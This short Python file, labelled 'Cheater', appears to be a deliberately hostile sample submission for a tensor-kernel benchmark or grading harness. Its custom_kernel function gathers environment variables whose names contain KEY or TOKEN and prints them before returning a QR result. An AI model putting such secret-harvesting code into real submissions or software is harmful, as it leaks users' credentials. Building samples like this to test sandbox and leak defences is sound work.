"""Cheater: looks for API keys in its environment and prints whatever it finds."""

import os

import torch


def custom_kernel(a: torch.Tensor):
    found = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
    print(f"SECRETS_FOUND={found}", flush=True)
    return torch.geqrf(a)
